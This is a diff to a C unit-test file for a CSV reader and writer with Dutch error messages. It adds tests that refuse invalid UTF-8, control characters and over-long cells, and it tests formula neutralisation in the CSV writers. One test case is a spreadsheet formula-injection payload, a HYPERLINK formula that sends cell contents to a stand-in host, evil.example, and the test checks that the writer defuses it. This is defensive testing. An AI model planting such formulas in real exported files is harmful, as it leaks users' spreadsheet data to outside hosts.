@@ -207,13 +207,63 @@ static void test_binary_input(void **state)
     unlink(path);
 }
 
-static void test_invalid_utf8_passes_through(void **state)
+/* Every field is text (text.h): a Windows-1252 byte is refused with file, line and
+ * column and the hint to save the file as UTF-8; the line is the one the byte is on,
+ * also inside a quoted field that spans lines. */
+static void test_invalid_utf8_refused(void **state)
 {
     (void)state;
-    CsvReader *r = open_text("naam\nCaf\xE9\n", 0);
-    expect_record(r, 1, 1, (const char *[]){"naam"});
-    expect_record(r, 2, 1, (const char *[]){"Caf\xE9"});
+    CsvReader *r = open_text("code,naam\nGM0363,Caf\xE9\n", 0);
+    expect_record(r, 1, 2, (const char *[]){"code", "naam"});
+    expect_error(r, "t.csv, regel 2, kolom 2: geen geldige UTF-8-tekst (byte 0xE9 na 3 tekens); "
+                    "is het bestand opgeslagen als Windows-1252 (ANSI)? Sla het op als CSV "
+                    "UTF-8 (in Excel: Opslaan als, CSV UTF-8) en probeer het opnieuw");
     csv_close(r);
+    r = open_text("a;b\n1;\"twee\nregels \xC3\x28\"\n", 0);
+    expect_record(r, 1, 2, (const char *[]){"a", "b"});
+    PokErr err = {0};
+    assert_int_equal(csv_next(r, &err), -1);
+    assert_non_null(strstr(err.msg, "t.csv, regel 3, kolom 2: geen geldige UTF-8-tekst"));
+    csv_close(r);
+    /* the header counts too; valid multi-byte text and a BOM pass */
+    r = open_text("\xEF\xBB\xBFna\xFF\x61m\n", 0); /* \x61 is 'a' */
+    expect_error(r, "t.csv, regel 1, kolom 1: geen geldige UTF-8-tekst (byte 0xFF na 2 tekens); "
+                    "is het bestand opgeslagen als Windows-1252 (ANSI)? Sla het op als CSV "
+                    "UTF-8 (in Excel: Opslaan als, CSV UTF-8) en probeer het opnieuw");
+    csv_close(r);
+    r = open_text("\xEF\xBB\xBFnaam\nCaf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80\n", 0);
+    expect_record(r, 1, 1, (const char *[]){"naam"});
+    expect_record(r, 2, 1, (const char *[]){"Caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80"});
+    expect_end(r);
+    csv_close(r);
+}
+
+/* A control character (other than tab and line ends) and a cell over the long bound. */
+static void test_control_and_long_cells_refused(void **state)
+{
+    (void)state;
+    CsvReader *r = open_text("a,b\n1,x\x1by\n", 0);
+    expect_record(r, 1, 2, (const char *[]){"a", "b"});
+    expect_error(r, "t.csv, regel 2, kolom 2: bevat een stuurteken (U+001B na 1 teken); alleen "
+                    "tab en regeleinde mogen in een tekst");
+    csv_close(r);
+    r = open_text("a\n\"tab\there\r\nok\"\n", 0);
+    expect_record(r, 1, 1, (const char *[]){"a"});
+    expect_record(r, 2, 1, (const char *[]){"tab\there\nok"});
+    csv_close(r);
+    size_t len = 10001;
+    char *text = malloc(len + 8);
+    assert_non_null(text);
+    memcpy(text, "a\n", 2);
+    memset(text + 2, 'x', len);
+    text[len + 2] = '\n';
+    PokErr err = {0};
+    r = csv_open_mem("lang.csv", text, len + 3, 0, &err);
+    assert_non_null(r);
+    expect_record(r, 1, 1, (const char *[]){"a"});
+    expect_error(r, "lang.csv, regel 2, kolom 1: te lang: 10.001 tekens, hoogstens 10.000");
+    csv_close(r);
+    free(text);
 }
 
 static void test_record_too_long(void **state)
@@ -294,6 +344,41 @@ static void test_large_file(void **state)
     unlink(path);
 }
 
+/* The two CSV field writers (util.h): text is neutralised against formulas, values pok
+ * made itself (a negative amount) are written as they are. */
+static void test_csv_writers(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *in, *text, *field;
+    } cases[] = {
+        {"Jobhunter", "Jobhunter", "Jobhunter"},
+        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
+         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\"",
+         "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\""},
+        {"+31 6", "'+31 6", "+31 6"},
+        {"-2500", "'-2500", "-2500"},
+        {"-2500,50", "\"'-2500,50\"", "\"-2500,50\""},
+        {"@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
+        {"\tx", "'\tx", "\tx"},
+        {"\rx", "\"'\rx\"", "\"\rx\""},
+        {"a=b", "a=b", "a=b"},
+        {"", "", ""},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        Buf b = {0};
+        buf_csv_text(&b, cases[i].in);
+        assert_string_equal(b.data ? b.data : "", cases[i].text);
+        buf_reset(&b);
+        buf_csv_field(&b, cases[i].in);
+        assert_string_equal(b.data ? b.data : "", cases[i].field);
+        buf_free(&b);
+    }
+    Buf b = {0};
+    buf_csv_text(&b, NULL);
+    assert_null(b.data);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -306,10 +391,12 @@ int main(void)
         cmocka_unit_test(test_unterminated_quote),
         cmocka_unit_test(test_text_after_closing_quote),
         cmocka_unit_test(test_binary_input),
-        cmocka_unit_test(test_invalid_utf8_passes_through),
+        cmocka_unit_test(test_invalid_utf8_refused),
+        cmocka_unit_test(test_control_and_long_cells_refused),
         cmocka_unit_test(test_record_too_long),
         cmocka_unit_test(test_open_missing_file),
         cmocka_unit_test(test_large_file),
+        cmocka_unit_test(test_csv_writers),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
